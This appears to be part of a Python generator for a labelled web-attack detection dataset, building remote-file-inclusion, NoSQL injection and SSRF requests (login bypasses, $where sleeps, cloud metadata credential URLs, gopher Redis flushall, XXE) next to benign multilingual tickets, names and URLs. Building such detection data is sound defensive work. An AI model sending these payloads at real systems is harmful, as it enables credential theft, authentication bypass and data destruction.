    P("query", "http://legit.example.com@evil.example/shell.txt?", "userinfo confusion", param="page")
    P("query", "http://evil.example/shell.txt\x00.php", "null before forced ext", param="site", enc="browser")
    P("query", "http://evil.example/shell.txt", "double encoded", param="page", enc="double")
    P("query", "https://evil.example/x.php?cmd=id&", "include with command arg", param="pg")
    P("query", "//evil.example/shell.txt", "protocol-relative", param="template")
    P("query", "\\\\evil.example@SSL\\DavWWWRoot\\x.php", "webdav UNC", param="file")
    P("query", "http://evil.example/inc", "_SERVER override array", param="_SERVER[DOCUMENT_ROOT]", path="/lib/base.php")
    P("query", "http://evil.example/x.txt?", "GLOBALS override", param="GLOBALS[config][path]", path="/install/index.php")
    P("query", "http://evil.example/a.txt", "lower hex encoding", param="inc", enc="lower")
    P("query", "http://evil.example/shell.jpg?", "mix encoding", param="theme", enc="mix")
    P("query", "https://evil.example/w.txt?", "wordpress plugin abspath", param="abspath", path="/wp-content/plugins/x/loader.php")
    P("query", "http://evil.example:80/shell.txt??", "double question mark", param="page")
    P("query_name", "page=http://evil.example/a.txt&x", "raw include in query string", raw=True)
    P("path", "http%3A%2F%2Fevil.example%2Fs.txt", "remote url as path segment", path="/include", raw=True)
    P("path", "http:%2F%2Fevil.example%2Fshell.txt%3F", "path include with ?", path="/index.php/page", raw=True)
    P("json", "http://evil.example/t.php", "json template url", param="template", path="/api/template")
    P("json", "https://evil.example/payload.txt?", "json \\u escaped scheme", param="include", esc=":/", path="/api/template")
    P("json", "ftp://evil.example/x.php", "json module ftp", param="module", path="/modules/loader.php")
    P("form", "http://evil.example/shell.txt?", "form page param", param="page", path="/index.php")
    P("form", "http://evil.example/c.txt", "form require param", param="require", path="/main.php")
    P("form", "\\\\198.51.100.7\\s\\x.php", "form UNC", param="file")
    P("form", "https://evil.example/lang/en.php", "form lang url", param="lang", path="/index.php")
    P("multipart", "http://evil.example/shell.txt?", "multipart page field", param="page", path="/index.php")
    P("multipart", "ftp://evil.example/x.txt", "multipart include field", param="include", path="/upload.php")
    P("xml", None, "XInclude remote", path="/api/template", xraw=True,
      xml='<?xml version="1.0"?>\n<doc xmlns:xi="http://www.w3.org/2001/XInclude">\n  <xi:include href="http://evil.example/payload.txt" parse="text"/>\n</doc>')
    P("xml", "http://evil.example/x.php", "xml template element", param="template", path="/api/template")
    P("xml", "http://evil.example/inc.txt?", "entity-encoded url", param="include", xentities="dec", path="/api/template")
    P("cookie", "http%3A%2F%2Fevil.example%2Fa.txt%3F", "cookie template url", param="template")
    P("cookie", "http://evil.example/lang.php", "cookie lang raw url", param="lang")
    P("header", "http://evil.example/x.php", "include via header", hname="X-Include")
    P("header", "https://evil.example/t.txt?", "template header", hname="X-Template-Url")
    P("query", "http://169.254.169.254.evil.example/shell.txt", "domain mimicking metadata", param="file")
    P("query", "http://evil.example/%2e%2e/shell.txt", "encoded dots in remote path", param="page", raw=True)
    P("query", "http://evil.example/shell.txt", "second include param pair", param="file", extra=[("action", "view")])
    P("query", "https://evil.example/x.txt?", "base_path param", param="base_path", path="/config/setup.php")


def attacks_nosqli(B):
    c = "nosqli"

    def P(loc, pl, note, **kw):
        place(B, c, loc, pl, note, **kw)

    def Q(q, note, path=None, method="GET"):
        B.add(c, "query_name", method, path or R.choice(DEFAULT_PATHS[c]), q, base_headers(), None, None, note)
    Q("username[$ne]=x&password[$ne]=x", "bracket $ne login bypass", "/api/login")
    Q("user[$regex]=%5Eadm&pass[$gt]=", "regex + gt", "/api/login")
    Q("username%5B%24ne%5D=admin&password%5B%24ne%5D=1", "encoded brackets and $")
    Q("login[$exists]=true&pwd[$exists]=true", "$exists")
    Q("email[$regex]=.*&email[$options]=i", "regex all")
    Q("role[$in][]=admin&role[$in][]=root", "$in array")
    Q("price[$gt]=0&price[$lt]=999999", "range dump", "/api/products/search")
    Q("%24where=1%3D%3D1", "$where as top-level param")
    Q("id[$nin][]=0", "$nin")
    Q("username[%24ne]=x&password[%24ne]=x", "partially encoded $")
    Q("filter[$where]=this.password.length%3E0", "$where in bracket filter")
    Q("user%255B%2524ne%255D=x", "double encoded bracket operator")
    Q("name[$not][$eq]=x", "nested $not")
    P("json", None, "$ne null login bypass", path="/api/login", jobj={"username": {"$ne": None}, "password": {"$ne": None}})
    P("json", None, "$gt empty string password", path="/api/login", jobj={"username": "admin", "password": {"$gt": ""}})
    P("json", None, "$where always true", path="/api/users", jobj={"$where": "this.password.length > 0"})
    P("json", None, "$where sleep", path="/api/users", jobj={"$where": "sleep(5000) || true"})
    P("json", None, "$regex dot-star", path="/api/login", jobj={"username": {"$regex": ".*"}, "password": {"$regex": ".*"}})
    P("json", None, "$in + $exists", path="/api/login", jobj={"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$exists": True}})
    P("json", None, "$or injection", path="/api/v1/accounts", jobj={"$or": [{"username": "x"}, {"isAdmin": {"$ne": False}}]})
    P("json", None, "\\u0024ne escaped operator", path="/api/login", esc="$",
      jobj={"username": {"$ne": 1}, "password": {"$ne": 1}})
    P("json", None, "$expr $function server JS", path="/api/products/search",
      jobj={"filter": {"$expr": {"$function": {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}}}})
    P("json", None, "$lookup aggregation injection", path="/api/reports", jobj={"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "leak"}}]})
    P("json", None, "regex prefix extraction", path="/api/login", jobj={"username": "admin", "password": {"$regex": "^a", "$options": "s"}})
    P("json", None, "$where function role check", path="/api/users", jobj={"query": {"$where": "function(){return this.role=='admin'}"}})
    P("json", None, "$jsonSchema match-all", path="/api/v1/accounts", jobj={"filter": {"$jsonSchema": {}}})
    P("json", None, "$where keys probing", path="/api/users", jobj={"$where": "Object.keys(this)[0].match('^.{0}a.*')"})
    P("json", None, "$accumulator server JS", path="/api/reports",
      jobj={"group": {"_id": None, "x": {"$accumulator": {"init": "function(){return 0}", "accumulate": "function(s){return s}", "accumulateArgs": [], "merge": "function(a,b){return a}", "lang": "js"}}}})
    P("json", None, "id $ne object id", path="/api/v1/accounts", jobj={"_id": {"$ne": "000000000000000000000000"}})
    P("json", None, "string-embedded $where json", path="/api/products/search", jobj={"filter": "{\"$where\":\"sleep(100)\"}"})
    P("json", None, "$elemMatch $ne", path="/api/products/search", jobj={"tags": {"$elemMatch": {"$ne": "__none__"}}})
    P("json", None, "$regex ReDoS-style", path="/api/users", jobj={"email": {"$regex": "^(a+)+$"}})
    P("json", None, "$type bypass", path="/api/login", jobj={"username": "admin", "password": {"$type": 2}})
    P("json", None, "$nin empty", path="/api/login", jobj={"username": {"$nin": []}, "password": {"$nin": [""]}})
    P("query", "';return true;var a='", "JS string breakout in $where-built query", param="name")
    P("query", "' || '1'=='1", "JS tautology", param="username")
    P("query", "a'; while(true){}; var b='", "JS infinite loop DoS", param="q", enc="mix")
    P("query", "{\"$gt\":\"\"}", "JSON operator string in query", param="password", path="/api/login")
    P("query", "{\"price\":{\"$gt\":0},\"$where\":\"sleep(2000)\"}", "filter JSON with $where", param="filter", enc="double")
    P("query", "1;sleep(5000)", "JS sleep", param="id")
    P("query", "true, $where: '1 == 1'", "unquoted mongo shell syntax", param="q")
    P("form", None, "form bracket operator login", path="/login", body="username%5B%24ne%5D=admin&password%5B%24ne%5D=", ct="application/x-www-form-urlencoded")
    P("form", None, "form raw bracket regex", path="/login", body="username=admin&password[$regex]=^p", ct="application/x-www-form-urlencoded")
    P("form", "this.constructor.constructor('return process')().exit()", "SSJS in form", param="where", path="/api/users")
    ctm, bm = multipart([{"name": "username[$ne]", "value": "x"}, {"name": "password[$ne]", "value": "x"}])
    P("multipart", None, "multipart bracket operator", path="/api/login", body=bm, ct=ctm)
    P("cookie", e('{"$ne":null}'), "operator JSON in cookie", param="uid")
    P("cookie", "j%3A%7B%22%24gt%22%3A%22%22%7D", "express j: json cookie operator", param="token")
    P("header", '{"owner":{"$ne":null}}', "operator JSON in filter header", hname="X-Filter")
    P("xml", "'; return db.getCollectionNames(); var x='", "JS injection in xml field", param="name", path="/api/users/search")


def attacks_ssrf(B):
    c = "ssrf"

    def P(loc, pl, note, **kw):
        place(B, c, loc, pl, note, **kw)
    P("query", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "AWS IMDS creds", param="url", enc="browser")
    P("query", "http://[fd00:ec2::254]/latest/meta-data/", "AWS IPv6 IMDS", param="url")
    P("query", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "GCP metadata token", param="uri")
    P("query", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "Azure IMDS", param="target")
    P("query", "http://2852039166/latest/meta-data/", "decimal IP", param="url")
    P("query", "http://0xa9fea9fe/latest/user-data", "hex IP", param="url")
    P("query", "http://0251.0376.0251.0376/latest/meta-data/", "octal dotted", param="image_url", path="/image/resize")
    P("query", "http://169.254.43518/latest/meta-data/", "two-part IP form", param="url")
    P("query", "http://[::ffff:169.254.169.254]/latest/meta-data/", "IPv4-mapped IPv6", param="url")
    P("query", "http://[::ffff:a9fe:a9fe]/", "IPv4-mapped hex", param="feed")
    P("query", "http://169.254.169.254.nip.io/latest/meta-data/", "wildcard DNS to metadata", param="url")
    P("query", "http://127.0.0.1:8080/admin", "loopback admin", param="url")
    P("query", "http://localhost:6379/", "local redis http", param="target")
    P("query", "http://0/", "zero address", param="url")
    P("query", "http://127.1/server-status", "short loopback", param="url", enc="full")
    P("query", "http://[::1]:22/", "ipv6 loopback ssh", param="url")
    P("query", "http://0.0.0.0:9200/_cat/indices", "elasticsearch via 0.0.0.0", param="url")
    P("query", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "gopher redis", param="url")
    P("query", "dict://127.0.0.1:11211/stats", "dict memcached", param="url")
    P("query", "file:///etc/passwd", "file scheme", param="url", path="/api/preview")
    P("query", "http://172.16.0.10:8500/v1/agent/self", "consul private", param="callback")
    P("query", "http://evil.example@169.254.169.254/latest/meta-data/", "userinfo to metadata", param="url")
    P("query", "http://100.100.100.200/latest/meta-data/", "Alibaba metadata", param="url")
    P("query", "http://169.254.170.2/v2/credentials/", "ECS task creds", param="url", enc="double")
    P("query", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "k8s api", param="url")
    P("query", "http://metadata/computeMetadata/v1/?recursive=true", "short metadata hostname", param="url")
    P("query", "ldap://127.0.0.1:389/", "ldap scheme", param="dest")
    P("query", "jar:http://127.0.0.1:8080/x.jar!/", "jar scheme", param="url")
    P("query", "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/", "enclosed alphanumerics IP", param="url")
    P("query", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "long mapped loopback", param="url")
    P("query", "http://instance-data/latest/meta-data/", "AWS instance-data alias", param="url")
    P("query", "http://169.254.169.254/openstack/latest/meta_data.json", "openstack metadata", param="uri", enc="mix")
    P("query", "http://192.0.0.192/latest/", "oracle cloud classic metadata", param="url")
    P("query", "http://0177.0.0.1/", "octal loopback", param="url")
    P("query", "http://2130706433/", "decimal loopback", param="url")
    P("query", "netdoc:///etc/passwd", "java netdoc scheme", param="url")
    P("query", "http://metadata.google.internal./computeMetadata/v1/instance/attributes/?recursive=true", "trailing dot host", param="url")
    P("query", "http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/", "dotted hex", param="url")
    P("query", "gopher://localhost:25/_HELO%20evil%0D%0AMAIL%20FROM%3A%3Ca%40b%3E", "gopher smtp", param="url")
    P("query_name", "url=http://192.168.1.1/cgi-bin/luci", "router admin via raw query", raw=True)
    P("path", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "metadata in proxy path", path="/proxy", raw=True)
    P("path", "http://127.0.0.1:2375/containers/json", "docker API via path-style proxy", path="/proxy", raw=True)
    P("json", "http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role", "webhook callback metadata", param="callback_url", path="/api/webhooks")
    P("json", "http://169.254.169.254/latest/api/token", "json \\u escaped metadata", param="url", esc=":/.", path="/api/fetch")
    P("json", "http://10.0.0.5:8080/actuator/env", "internal actuator", param="endpoint", path="/api/v1/import")
    P("form", "http://[::]:80/", "form ipv6 any", param="image_url", path="/image/resize")
    P("form", "http://127.000.000.001:5000/admin", "padded loopback", param="url", path="/api/preview")
    P("multipart", "http://169.254.169.254/latest/meta-data/hostname", "multipart remote image url", param="image_url", path="/image/resize")
    P("xml", None, "XXE to metadata", path="/api/v1/import", xml=(
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n'
        '<order><note>&meta;</note></order>'))
    P("xml", "http://127.0.0.1:8080/manager/html", "xml feed url", param="feedUrl", path="/api/v1/import")
    P("header", "169.254.169.254", "host override header", hname="X-Forwarded-Host")
    P("header", "http://169.254.169.254/latest/meta-data/", "callback header", hname="X-Callback-Url")
    P("referer", "http://169.254.169.254/latest/meta-data/", "referer fetched by analytics")
    P("cookie", "http%3A%2F%2F127.0.0.1%3A8080%2Fadmin", "cookie preview url", param="last_url")


# ==========================================================================
# BENIGN material (all written for this set)
NAMES = [
    "Seán O'Brien", "Siobhán O'Sullivan", "D'Angelo Russell", "Amadou N'Diaye", "Giulia Dell'Acqua",
    "Connor O'Neill-Smith", "Priya D'Souza", "Ngũgĩ wa Thiong'o", "Wanjiru Ng'ang'a", "Manu Tu'ilagi",
    "Mary-Kate O'Hara", "Ta'Nehisi Coates", "De'Aaron Fox", "D'Arcy Carden", "Lupita Nyong'o",
    "Zoë Saldaña", "José Núñez", "François L'Écuyer", "Björk Guðmundsdóttir", "Łukasz Żółkiewski",
    "Hans Müller-Lüdenscheidt", "Søren Kierkegaard", "İsmail Türkoğlu", "Nguyễn Văn An", "张伟", "王芳",
    "山田 太郎", "佐藤 花子", "김민준", "이서연", "Александр Пушкин", "Ольга Смирнова", "محمد عبد الله",
    "'Abd al-Rahman ibn Khalid", "Kaʻahumanu Kealoha", "Ma'ayan Cohen", "Rosa O'Donnell", "Dónal Ó Ceallaigh",
    "Ana D'Ávila", "Anne-Sophie L'Hôte", "आदित्य शर्मा", "Σωκράτης Παπαδόπουλος", "Kateřina Nováková",
    "Ioana Ştefănescu", "Ngozi Okonjo-Iweala", "Ṣọlá Adéyẹmí", "Jean d'Ormesson", "Tomás de la Peña y O'Farrill",
    "Chloë Grace-O'Malley", "Tiri Te Kanawa", "Shay'la McDonald", "Marie-Thérèse d'Alembert",
]
CITIES = ["L'Aquila", "Cote d'Ivoire", "Hawai'i", "St. John's", "Martha's Vineyard", "Ho Chi Minh City", "São Paulo",
          "Zürich", "Kraków", "München", "Москва", "東京", "서울", "القاهرة", "Reykjavík", "Coeur d'Alene", "Val-d'Or",
          "Dún Laoghaire", "Württemberg", "Québec", "Bengaluru", "İstanbul", "Łódź", "Hà Nội"]
TICKETS = [
    "Hi, I tried to select the Union plan on checkout but the drop-down resets every time. Can you delete my old card and update the billing address?",
    "Our script that calls your API returns 403 since yesterday. We only exec one nightly job from cron at 02:00 UTC.",
    "Please drop me an email when the order ships. I'll be away from 1 to 5 June.",
    "The alert banner keeps showing even after I dismissed it - is that a bug?",
    "My cat knocked the router over and now the ping to your server is 300ms+. Is it you or me? :)",
    "Can you union the two accounts? I have one under my maiden name and one under O'Connor.",
    "Where do I find the 'Select all' checkbox? I want to delete 200 old drafts at once.",
    "Order #48213: received 2 items instead of 3; the third one (SKU AB-1002) is missing.",
    "I'm getting 'TypeError: Cannot read properties of undefined (reading \"id\")' when I click Save.",
    "Please update my shipping address to 221B Baker Street, London NW1 6XE.",
    "We want to allowlist your IPs in our firewall - which ranges do your webhooks come from?",
    "How do I insert a table into my document and then delete a single column?",
    "The \"drop shipping\" option isn't available for Canada, why is that?",
    "Our exec team says the dashboard doesn't load on Safari 17.4, only a white screen.",
    "The union representative asked for a copy of the shift schedule from March.",
    "I selected 'Express' but was charged for 'Standard' - order 77-1029, can you refund the difference?",
    "When I type a <tag> in the title the preview shows it literally, which is what I want, thanks!",
    "Where is the 'Execute payment' button? The docs say it should be under Billing > Run.",
    "Could you please delete all my personal data per GDPR Art. 17? Ref: my email is on file.",
    "Prices dropped by 20% after I bought it. Do you offer price protection?",
    "Our staging server can't ping api.example.com but curl from my laptop works fine.",
    "Is there a way to select multiple rows and drop them into another folder?",
    "My password has a quote (') and a semicolon in it and the mobile app rejects it.",
    "The cat /dog filter on the adoption page shows only cats.",
    "I want to exec-ute my option to cancel within 14 days, order placed on 03/04/2024.",
    "Script error in the checkout: 'Uncaught ReferenceError: gtag is not defined'.",
    "Hello, ich möchte meine Bestellung stornieren, bitte. Bestellnummer 1002-33. Danke!",
    "Bonjour, je n'arrive pas à me connecter depuis l'application. Pourriez-vous m'aider ?",
    "¿Podrían enviarme la factura del pedido 1043? ¡Gracias de antemano!",
    "こんにちは、注文した商品がまだ届いていません。確認していただけますか？",
    "您好，我想修改我的收货地址，谢谢！",
    "Здравствуйте! Не могу оплатить заказ картой «Мир», пишет «ошибка 402».",
    "مرحبا، أريد إلغاء اشتراكي من فضلك. شكراً",
    "안녕하세요, 비밀번호를 재설정하고 싶습니다.",
    "नमस्ते, मेरा ऑर्डर अभी तक नहीं आया है। कृपया जाँच करें।",
    "Merhaba, siparişimin kargo takip numarasını öğrenebilir miyim?",
    "Olá! Gostaria de trocar o tamanho da camiseta para M, é possível?",
    "Cześć, czy mogę zmienić metodę płatności na BLIK?",
    "Γεια σας, θα ήθελα να ακυρώσω την παραγγελία μου.",
    "שלום, אני צריך עזרה עם החשבון שלי.",
    "Xin chào, tôi muốn đổi địa chỉ giao hàng sang Hà Nội.",
    "Hej! Jag har inte fått någon bekräftelse på min beställning.",
    "Please select one: (a) refund, (b) replacement, or (c) store credit.",
    "The 'Union Jack' mug arrived chipped - photos attached.",
    "I ordered the Drop Leaf table (oak) and the Select Comfort pillow; only the pillow arrived.",
]
PROSE = [
    "The weather's great 🌞 — see you at the café at 5 😊",
    "Loved it!!! ⭐⭐⭐⭐⭐ would buy again 👍",
    "It's 5 o'clock somewhere; don't forget Tom's & Jerry's party",
    "Rock 'n' roll ain't noise pollution",
    "I'd like 2 × 500 g of flour & ½ dozen eggs, please.",
    "Use 1 or 2 tablespoons, not more - or the sauce gets too salty.",
    "She said \"drop it\" and walked off, so I did.",
    "Union Station to Grand Central, then Select Bus Service M15.",
    "Rated 5/5 — 'best purchase of the year' according to my wife.",
    "Où est la bibliothèque ? C'est à deux pas d'ici.",
    "Der Zug nach Köln fährt um 14:05 Uhr von Gleis 3 ab.",
    "今日はいい天気ですね。散歩に行きましょう！",
    "我们明天下午三点在会议室见面。",
    "Сегодня мы обсудим планы на следующий квартал.",
    "الاجتماع غداً في الساعة العاشرة صباحاً.",
    "오늘 회의는 오후 3시에 시작합니다.",
    "Η συνάντηση θα γίνει την Πέμπτη στις 10:00.",
    "Bugün hava çok güzel, parka gidelim mi?",
    "Vamos à praia no sábado? Leva o protetor solar! ☀️🏖️",
    "¡Qué día tan bonito! ¿Tomamos un café?",
    "Can't wait for the weekend 🎉🎉 #friyay",
    "50% off — buy 1 + get 1 = 3 deal? That math doesn't add up 😂",
    "Note to self: ask Dave whether 'or' means inclusive or exclusive in the spec.",
    "Meet me at O'Hare, Terminal 3, gate K7 — flight lands 6:45pm.",
    "Thanks for the quick fix!! You folks rock 🙌🏽",
    "Family recipe: 3 cups flour, 1 tsp salt, 2 eggs; bake at 180 °C for 25–30 min.",
    "The fox said 'hello' to the dog; the dog said nothing.",
    "Reminder: the Q3 all-hands is moved to Thu 10/17 @ 9am PT.",
    "Ik ben er morgen niet, ik heb een tandartsafspraak.",
    "Zapraszamy na spotkanie w piątek o 12:00 w sali 204.",
]
MARKDOWN = [
    "## Release notes\n\n- Fixed crash when `user.name` is null\n- **Breaking:** renamed `/v1/items` to `/v2/items`\n\n```bash\nnpm install --save our-sdk@2.1.0\n```\n",
    "> Great question!\n\n1. Open *Settings*\n2. Click **Delete account**\n3. Confirm\n\nSee [the docs](https://docs.example.com/guide?tab=account#delete).",
    "| Item | Qty | Price |\n|---|---:|---:|\n| Widget | 2 | $9.99 |\n| Gadget | 1 | $24.50 |",
    "![architecture](https://cdn.example.com/img/arch-v2.png \"Architecture\")\n\n_Figure 1: overview_",
    "### Steps to reproduce\n\n1. Select the *Union* filter\n2. Drop the CSV onto the upload area\n3. Observe the error `E_PARSE at line 3`\n\n~~worked in 1.4~~",
    "- [x] write tests\n- [ ] update CHANGELOG.md\n- [ ] ping @maria for review",
    "Use `git rebase -i HEAD~3` then `git push --force-with-lease`.",
    "**TL;DR**: it's a caching issue; clear `~/.cache/app` and restart.",
    "Footnote test[^1].\n\n[^1]: Source: O'Reilly, *Learning SQL*, 3rd ed., p. 42.",
    "<details>\n<summary>Logs</summary>\n\n```\n2024-05-02 10:11:12 WARN retrying in 5s\n```\n</details>",
]
SNIPPETS = [
    ("python", "def total(items):\n    return sum(i['price'] * i['qty'] for i in items)\n", None),
    ("javascript", "const el = document.querySelector('#cart');\nel.classList.toggle('open');\n", "grey: DOM code in snippet"),
    ("sql", "SELECT id, name FROM customers WHERE country = 'DE' ORDER BY name LIMIT 50;", "grey: SQL snippet in code-sharing field"),
    ("sql", "UPDATE inventory SET qty = qty - 1 WHERE sku = 'AB-1002';", "grey: SQL snippet in code-sharing field"),
    ("bash", "for f in *.csv; do wc -l \"$f\"; done", "grey: shell snippet"),
    ("java", "List<String> names = users.stream().map(User::getName).collect(Collectors.toList());", None),
    ("go", "if err != nil {\n\treturn fmt.Errorf(\"open config: %w\", err)\n}", None),
    ("rust", "let evens: Vec<u32> = (1..=10).filter(|x| x % 2 == 0).collect();", None),
    ("html", "<div class=\"card\">\n  <h2>Title</h2>\n  <p>Body text</p>\n</div>", "grey: HTML snippet"),
    ("regex", "^[A-Z]{2}\\d{2}[A-Z0-9]{11,30}$", None),
    ("css", ".btn:hover { background: #0af; transition: all .2s ease-in-out; }", None),
    ("php", "echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8');", "grey: PHP snippet"),
    ("c", "printf(\"%d items\\n\", count);", None),
    ("yaml", "services:\n  web:\n    image: nginx:1.25\n    ports:\n      - \"8080:80\"\n", None),
    ("kotlin", "val total = cart.items.sumOf { it.price * it.qty }", None),
    ("typescript", "type User = { id: string; name: string; roles?: Array<'admin' | 'user'> };", None),
    ("ruby", "users.select { |u| u.active? }.map(&:email)", None),
    ("json", "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\"\n}", None),
    ("dockerfile", "FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt\n", "grey: Dockerfile RUN line"),
    ("csharp", "var order = await db.Orders.FirstOrDefaultAsync(o => o.Id == id);", None),
]
URLS = [
    "https://en.wikipedia.org/wiki/O%27Reilly_Media", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://github.com/rust-lang/rust/issues/12345", "https://maps.google.com/?q=48.8584,2.2945",
    "https://www.amazon.de/dp/B08N5WRWNW?ref=ppx_yo2ov_dt_b_product_details&th=1",
    "https://docs.python.org/3/library/urllib.parse.html#urllib.parse.quote",
    "https://news.ycombinator.com/item?id=40012345", "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster",
    "https://www.bbc.co.uk/news/world-europe-68123456", "https://de.wikipedia.org/wiki/K%C3%B6ln",
    "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC", "https://cdn.example.com/assets/app.3f9a2c.js",
    "https://open.spotify.com/track/4uLU6hMCjMI75M1A2tKUQC?si=abc123", "https://www.nytimes.com/2024/05/01/technology/ai-chips.html",
    "https://calendar.google.com/calendar/r/eventedit?text=Standup&dates=20240603T090000Z/20240603T091500Z",
]
REFERERS = [
    "https://www.google.com/search?q=select+union+dress+size+chart&oq=select+union&sourceid=chrome&ie=UTF-8",
    "https://www.google.com/search?q=o%27reilly+books+sale&hl=en",
    "https://www.bing.com/search?q=how+to+drop+a+table+in+excel&form=QBLH",
    "https://duckduckgo.com/?q=cat+command+linux+examples&ia=web",
    "https://shop.example.com/catalog?category=shoes&sort=price_asc&page=2&size%5B%5D=42&size%5B%5D=43",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2Fsale&h=AT0x9aB3cD",
    "https://t.co/AbCdEf1234", "https://mail.google.com/mail/u/0/",
    "https://search.yahoo.co.jp/search?p=%E6%9D%B1%E4%BA%AC+%E5%A4%A9%E6%B0%97&ei=UTF-8",
    "https://www.baidu.com/s?wd=%E5%8C%97%E4%BA%AC%E5%A4%A9%E6%B0%94&rsv_spt=1",
    "https://yandex.ru/search/?text=%D0%BF%D0%BE%D0%B3%D0%BE%D0%B4%D0%B0&lr=213",
    "https://app.example.com/dashboard?tab=reports&from=2024-01-01&to=2024-03-31&tz=Europe%2FBerlin",
    "https://app.example.com/orders?filter%5Bstatus%5D=shipped&sort=-created_at",
    "https://www.linkedin.com/feed/?trk=guest_homepage-basic_nav-header-signin",
    "https://news.ycombinator.com/item?id=40012345", "https://www.reddit.com/r/programming/comments/1c2d3e/union_types_in_python/",
    "https://accounts.example.com/login?return_to=%2Fbilling%3Fplan%3Dpro&lang=de",
    "https://github.com/search?q=select+from+where&type=code",
    "https://www.google.co.uk/url?sa=t&rct=j&q=&esrc=s&source=web&cd=&ved=2ahUKEwj&url=https%3A%2F%2Fshop.example.com%2F",
    "https://docs.example.com/api/v2/reference#operation/deleteItem",
    "https://www.google.com/search?q=script+alert+meaning+in+spanish",
    "https://stackoverflow.com/questions/tagged/exec?tab=Votes",
    "https://www.ebay.com/sch/i.html?_nkw=drop+bar+handlebar&_sacat=0&LH_BIN=1",
    "https://translate.google.com/?sl=fr&tl=en&text=l%27%C3%A9t%C3%A9%20dernier&op=translate",
    "https://example.com/", "https://blog.example.com/2024/04/o-briens-guide-to-sourdough/?utm_source=newsletter&utm_medium=email",
]
FILENAMES = ["Q3_report_final (2).xlsx", "résumé-jean-françois.pdf", "IMG_20240315_093012.HEIC", "invoice#1043.pdf",
             "my file & notes.txt", "backup-2024-05-01.tar.gz", "2024-05 budget v3 [draft].docx", "data.csv",
             "O'Brien_contract_signed.pdf", "会议记录.docx", "Отчёт за март.xlsx", "presentation (final) FINAL.pptx",
             "screenshot 2024-06-01 at 10.22.31.png", "logo@2x.png", "employees_export.csv", "select_union_menu.pdf",
             "drop-table-plans.dwg", "cat-photo.jpg", "exec_summary.pdf", "ping-results.txt", "script.md"]
PHONES = ["+1 (415) 555-0132", "+44 20 7946 0958", "+49 30 901820", "+81 3-1234-5678", "+33 1 23 45 67 89",
          "+91 98765 43210", "(02) 9374 4000", "+55 11 91234-5678", "+7 495 123-45-67", "+86 10 6552 9988", "555-0199 ext. 12"]
PRICES = ["$1,299.99", "€1.299,00", "¥12,800", "£45.50", "CHF 89.–", "R$ 49,90", "₹2,499", "1 299,00 zł", "$0.99", "₩35,000"]
DATES = ["2024-03-15T09:30:00+01:00", "15/03/2024", "March 15, 2024", "2024-06-01", "01.06.2024", "2024年6月1日",
         "Tue, 04 Jun 2024 10:00:00 GMT", "2024-W23", "1717236000", "06/07/24"]
PASSWORDS = ["correct horse battery staple", "Tr0ub4dor&3", "P@ssw0rd!2024", "müde-Kätzchen-42", "h3ll0_W0rld#",
             "ilovemy cat 1985", "qwe!@#ASD", "S3cure*Pass(word)", "blue-sky-7-Orchard", "Pa$$w0rd^~"]
MATH = ["2*(3+4)/5 = 2.8", "x^2 + y^2 = r^2", "∫₀¹ x² dx = 1/3", "e^(iπ) + 1 = 0", "sqrt(16) + 3! = 10",
        "=SUM(B2:B14)/COUNT(B2:B14)", "n! / (k! * (n-k)!)", "5 % 3 == 2", "1/3 ≈ 0.333", "Δv = a·t",
        "if x >= 10 and y <= 5 then z = x - y", "P(A|B) = P(B|A)P(A)/P(B)", "lim(x→0) sin(x)/x = 1", "(a+b)^2 = a^2 + 2ab + b^2"]
SEARCHES = ["union square hotels", "select comfort mattress", "drop earrings gold", "cat tree for large cats",
            "ping pong table outdoor", "exec chair ergonomic", "script font wedding", "alert bracelet medical",
            "delete facebook account", "update iphone ios 17", "insert coin sound effect", "table saw blade 10 inch",
            "rock 'n' roll t-shirt", "levi's 501 w32 l34", "men's shoes size 10", "o'reilly python cookbook",
            "where is my order", "how to join two tables", "null hypothesis example", "or else book",
            "1/2 inch copper pipe", "50% off coupon", "usb-c to hdmi", "c++ primer", "c# in depth", "node.js tutorial",
            "café au lait", "crème brûlée recipe", "Ĺuboš Tóth", "东京 酒店", "ラーメン 新宿", "кофемашина", "مطاعم دبي",
            "what does <br> mean in html", "and/or vs or", "import export business", "java vs javascript", "fetch dog toy",
            "eval sheet template", "table of contents word", "sleep mask silk", "benchmark gpu 2024", "dir en grey tour",
            "wget vs curl", "system of a down tickets", "passwd recovery windows", "chmod calculator", "cmd prompt shortcuts",
            "select all shortcut mac", "drop down menu css", "etc etc meaning", "proc meaning gaming"]
TAGS = ["billing", "bug", "feature-request", "urgent", "shipping", "account", "mobile", "api", "refund", "ux"]
UUIDS = lambda: "%s-%s-4%s-%s%s-%s" % (rhex(8), rhex(4), rhex(3), R.choice("89ab"), rhex(3), rhex(12))

GREY_PATTERNS = [
    (re.compile(r"<\s*/?[a-zA-Z]"), "contains HTML-like tag"),
    (re.compile(r"(?i)\bselect\b.*\bfrom\b|\bunion\b.*\bselect\b|\bupdate\b.*\bset\b.*\bwhere\b"), "SQL-like phrase"),
    (re.compile(r"(?i)passwd|/etc/|\.\./|\\\\"), "file-path-like text"),
    (re.compile(r"\$\(|`|\$\{"), "shell/template-like chars"),
    (re.compile(r"(?i)\bdocument\.|\bon[a-z]+\s*=|javascript:"), "JS-like text"),
